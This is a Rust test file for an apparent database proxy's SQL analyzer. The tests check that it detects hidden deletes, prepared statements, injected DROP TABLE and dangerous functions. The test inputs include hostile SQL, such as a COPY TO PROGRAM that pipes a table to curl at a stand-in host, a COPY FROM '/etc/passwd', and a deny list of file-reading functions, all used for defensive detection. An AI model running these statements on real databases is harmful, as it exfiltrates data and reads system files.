//! The facts of statements that try to hide what they do. The full corpus, with verdicts,
//! is `proxy/tests/policy_corpus.toml`; these pin the walk's trickier rules.

use super::*;

fn analyzer() -> Analyzer {
    Analyzer::new(Names::new(
        vec!["public".into()],
        DangerousFunctions::new(&["pg_read_file", "lo_*", "dblink*", "set_config"]),
    ))
}

fn one(text: &str) -> StatementFacts {
    let facts = analyzer().analyze(text);
    assert_eq!(facts.statements.len(), 1, "{text}: {facts:#?}");
    (*facts.statements[0]).clone()
}

fn names(tables: &[TableName]) -> Vec<String> {
    tables.iter().map(ToString::to_string).collect()
}

fn accesses(facts: &StatementFacts) -> Vec<String> {
    facts
        .accesses
        .iter()
        .map(|a| match &a.table {
            Some(t) => format!("{} {t}", a.action),
            None => format!("{} *", a.action),
        })
        .collect()
}

#[test]
fn a_cte_that_deletes_is_a_delete_without_where() {
    let facts = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(facts.kind, StatementKind::Select);
    assert_eq!(accesses(&facts), ["sql:select *", "sql:delete public.t"]);
    assert!(facts.reads.is_empty(), "d is the CTE, not a table");
    assert_eq!(names(&facts.writes), ["public.t"]);
    assert!(!facts.has_where());
}

#[test]
fn a_cte_named_like_a_table_hides_it_only_after_its_own_definition() {
    let facts = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
    assert_eq!(names(&facts.reads), ["public.secrets"]);
    let recursive = one("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r");
    assert!(recursive.reads.is_empty());
    let later = one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a");
    assert_eq!(
        names(&later.reads),
        ["public.b"],
        "a does not see the CTE b"
    );
}

#[test]
fn writes_through_select_into_insert_select_update_from_delete_using_and_merge() {
    let into = one("SELECT * INTO archive FROM accounts");
    assert_eq!(
        accesses(&into),
        ["sql:select public.accounts", "sql:ddl public.archive"]
    );
    let insert = one("INSERT INTO a SELECT * FROM b ON CONFLICT (id) DO UPDATE SET x = 1");
    assert_eq!(
        accesses(&insert),
        [
            "sql:select public.b",
            "sql:insert public.a",
            "sql:update public.a"
        ]
    );
    let update = one("UPDATE t SET a = u.a FROM u WHERE t.id = u.id");
    assert_eq!(
        accesses(&update),
        ["sql:select public.u", "sql:update public.t"]
    );
    assert!(update.has_where());
    let delete = one("DELETE FROM t USING u WHERE t.id = u.id");
    assert_eq!(
        accesses(&delete),
        ["sql:select public.u", "sql:delete public.t"]
    );
    let merge = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE");
    assert_eq!(
        accesses(&merge),
        [
            "sql:select public.s",
            "sql:delete public.t",
            "sql:merge public.t"
        ]
    );
}

#[test]
fn subqueries_anywhere_are_read() {
    let facts = one(
        "SELECT (SELECT max(a) FROM w), f(1) FROM t, LATERAL (SELECT * FROM z) q \
         WHERE x IN (SELECT y FROM u) ORDER BY (SELECT 1 FROM o)",
    );
    assert_eq!(
        names(&facts.reads),
        ["public.o", "public.t", "public.u", "public.w", "public.z"]
    );
    assert_eq!(facts.functions, ["f", "max"]);
}

#[test]
fn dangerous_functions_are_found_in_from_and_in_expressions() {
    let facts = one("SELECT PG_CATALOG.pg_read_file('x') FROM pg_ls_dir('.'), lo_import('/y') l");
    assert_eq!(
        facts.functions,
        ["lo_import", "pg_catalog.pg_read_file", "pg_ls_dir"]
    );
    assert_eq!(
        facts.dangerous_functions,
        ["lo_import", "pg_catalog.pg_read_file"]
    );
    assert!(facts.reads.is_empty());
}

#[test]
fn explain_analyze_carries_the_effects_and_plain_explain_does_not() {
    let analyze = one("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t");
    assert_eq!(analyze.kind, StatementKind::Explain);
    assert_eq!(accesses(&analyze), ["sql:delete public.t"]);
    assert!(!analyze.has_where());
    let off = one("EXPLAIN (ANALYZE off) DELETE FROM t");
    assert_eq!(accesses(&off), ["sql:explain *"]);
    let plain = one("EXPLAIN DELETE FROM t");
    assert_eq!(accesses(&plain), ["sql:explain *"]);
    assert_eq!(names(&plain.writes), ["public.t"]);
}

#[test]
fn execute_has_the_facts_of_what_was_prepared() {
    let analyzer = analyzer();
    let mut session = PreparedStatements::new();
    let prepare = Arc::new(analyzer.analyze("PREPARE wipe AS DELETE FROM t"));
    assert_eq!(accesses(&prepare.statements[0]), ["sql:prepare *"]);
    session.apply(&prepare);
    let execute = session.resolve(&Arc::new(analyzer.analyze("EXECUTE wipe")));
    assert_eq!(accesses(&execute.statements[0]), ["sql:delete public.t"]);
    assert!(execute.from_session);
    let unknown = session.resolve(&Arc::new(analyzer.analyze("EXECUTE other(1)")));
    assert_eq!(accesses(&unknown.statements[0]), ["sql:unparsed *"]);
    session.apply(&analyzer.analyze("DEALLOCATE ALL"));
    assert!(session.is_empty());
}

#[test]
fn a_prepare_counts_for_an_execute_later_in_the_same_message() {
    let analyzer = analyzer();
    let message = Arc::new(
        analyzer.analyze("PREPARE p(int) AS UPDATE t SET a = $1; EXECUTE p(pg_read_file('x'))"),
    );
    let resolved = PreparedStatements::new().resolve(&message);
    let execute = &resolved.statements[1];
    assert_eq!(accesses(execute), ["sql:update public.t"]);
    assert!(!execute.has_where());
    assert_eq!(execute.dangerous_functions, ["pg_read_file"]);
}

#[test]
fn comments_quoting_and_case_do_not_change_the_facts() {
    let plain = one("DELETE FROM accounts WHERE id = 1");
    for text in [
        "/* hi */ dElEtE /* there */ FROM \"accounts\" -- x\n WHERE id = 1",
        "delete from PUBLIC.Accounts where id = $$1$$::int",
        "DELETE FROM accounts WHERE id = 1 /* ; DROP TABLE accounts */",
    ] {
        let facts = one(text);
        assert_eq!(facts.accesses, plain.accesses, "{text}");
    }
    let quoted = one("DELETE FROM \"Accounts\" WHERE true");
    assert_eq!(names(&quoted.writes), ["public.\"Accounts\""]);
}

#[test]
fn strings_hide_nothing_and_hide_no_statement() {
    let facts = analyzer().analyze("SELECT '\\'; DROP TABLE x; --'");
    let kinds: Vec<_> = facts.statements.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            StatementKind::Select,
            StatementKind::Drop(ObjectKind::Table)
        ],
        "with standard_conforming_strings a backslash does not escape a quote"
    );
    let dollar = analyzer().analyze("SELECT $a$ '; DROP TABLE x; $a$");
    assert_eq!(dollar.statements.len(), 1);
}

#[test]
fn a_statement_the_parser_rejects_does_not_hide_the_others() {
    let facts = analyzer().analyze("SELECT 1; DO $$ BEGIN DELETE FROM t; END $$; DROP TABLE t; ALTER SYSTEM SET x = 1; VACUUM (VERBOSE) t");
    let kinds: Vec<_> = facts.statements.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            StatementKind::Select,
            StatementKind::Do,
            StatementKind::Drop(ObjectKind::Table),
            StatementKind::Alter(ObjectKind::System),
            StatementKind::Unparsed,
        ]
    );
    assert!(facts.statements[4].error.is_some());
    let open = analyzer().analyze("SELECT 'unterminated");
    assert_eq!(open.statements.len(), 1);
    assert_eq!(open.statements[0].kind, StatementKind::Unparsed);
}

#[test]
fn copy_says_where_its_data_goes() {
    let program = one("COPY t TO PROGRAM 'curl -d @- evil'");
    assert_eq!(
        program.copy,
        Some(CopyFacts {
            direction: CopyDirection::To,
            endpoint: CopyEndpoint::Program
        })
    );
    assert_eq!(
        accesses(&program),
        ["sql:select public.t", "sql:copy public.t"]
    );
    let file = one("COPY t FROM '/etc/passwd'");
    assert_eq!(
        file.copy.map(|c| c.endpoint),
        Some(CopyEndpoint::ServerFile)
    );
    assert_eq!(
        accesses(&file),
        ["sql:insert public.t", "sql:copy public.t"]
    );
    let query = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert_eq!(accesses(&query), ["sql:delete public.t", "sql:copy *"]);
}

#[test]
fn settings_and_roles() {
    assert_eq!(one("SET ROLE postgres").action, Action::SetRole);
    assert_eq!(one("set role = 'postgres'").action, Action::SetRole);
    assert_eq!(one("RESET ROLE").action, Action::SetRole);
    let auth = one("SET SESSION AUTHORIZATION postgres");
    assert_eq!(auth.role_change, Some(RoleChange::SessionAuthorization));
    let path = one("SET LOCAL Search_Path TO evil, public");
    assert_eq!(
        (path.action, path.settings.as_slice()),
        (Action::Set, &["search_path".to_owned()][..])
    );
}

#[test]
fn limits_and_wheres() {
    assert_eq!(one("SELECT * FROM t LIMIT 10").limit, Some(Limit::Rows(10)));
    assert_eq!(
        one("SELECT * FROM t LIMIT $1").limit,
        Some(Limit::Expression)
    );
    assert_eq!(
        one("SELECT * FROM t FETCH FIRST 3 ROWS ONLY").limit,
        Some(Limit::Rows(3))
    );
    assert_eq!(one("SELECT * FROM t").limit, None);
    assert!(!one("UPDATE t SET a = 1").has_where());
    assert!(one("UPDATE t SET a = 1 WHERE true").has_where());
}

#[test]
fn ddl_names_its_object_and_its_tables() {
    let drop = one("DROP TABLE IF EXISTS a, s.b CASCADE");
    assert_eq!(drop.kind, StatementKind::Drop(ObjectKind::Table));
    assert_eq!(accesses(&drop), ["sql:ddl public.a", "sql:ddl s.b"]);
    let index = one("CREATE INDEX CONCURRENTLY i ON s.t (a)");
    assert_eq!(accesses(&index), ["sql:ddl s.t"]);
    let function = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$");
    assert_eq!(accesses(&function), ["sql:ddl *"]);
    let view = one("CREATE VIEW v AS SELECT * FROM secrets");
    assert_eq!(
        accesses(&view),
        ["sql:select public.secrets", "sql:ddl public.v"]
    );
}

#[test]
fn empty_messages_have_no_statements() {
    for text in ["", "  ", "-- only a comment", ";", "; ;"] {
        assert!(analyzer().analyze(text).statements.is_empty(), "{text:?}");
    }
}

#[test]
fn the_summary_unions_the_statements() {
    let facts =
        analyzer().analyze("BEGIN; UPDATE a SET x = 1 WHERE y IN (SELECT y FROM b); COMMIT");
    let summary = facts.summary().expect("parsed");
    assert_eq!(summary.action, "sql:update");
    assert_eq!(summary.reads, ["public.b"]);
    assert_eq!(summary.writes, ["public.a"]);
    assert_eq!(summary.statements, 3);
    assert_eq!(analyzer().analyze("garbage here").summary(), None);
}

#[test]
fn the_cache_returns_the_same_facts() {
    let analyzer = analyzer();
    let first = analyzer.facts("SELECT * FROM t");
    let second = analyzer.facts("SELECT * FROM t");
    assert!(Arc::ptr_eq(&first, &second));
}

#[test]
fn only_is_a_keyword_not_a_table() {
    let delete = one("DELETE FROM ONLY accounts WHERE id = 1");
    assert_eq!(names(&delete.writes), ["public.accounts"]);
    let select = one("select * from only Secrets");
    assert_eq!(names(&select.reads), ["public.secrets"]);
    let quoted = one("SELECT * FROM \"only\"");
    assert_eq!(names(&quoted.reads), ["public.only"]);
}

#[test]
fn a_with_clause_before_a_write_makes_it_that_write() {
    let insert = one("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x");
    assert_eq!(
        (insert.kind, insert.action),
        (StatementKind::Insert, Action::Insert)
    );
    let array = one("SELECT ARRAY(SELECT id FROM t)");
    assert!(array.functions.is_empty(), "ARRAY(...) is a constructor");
}
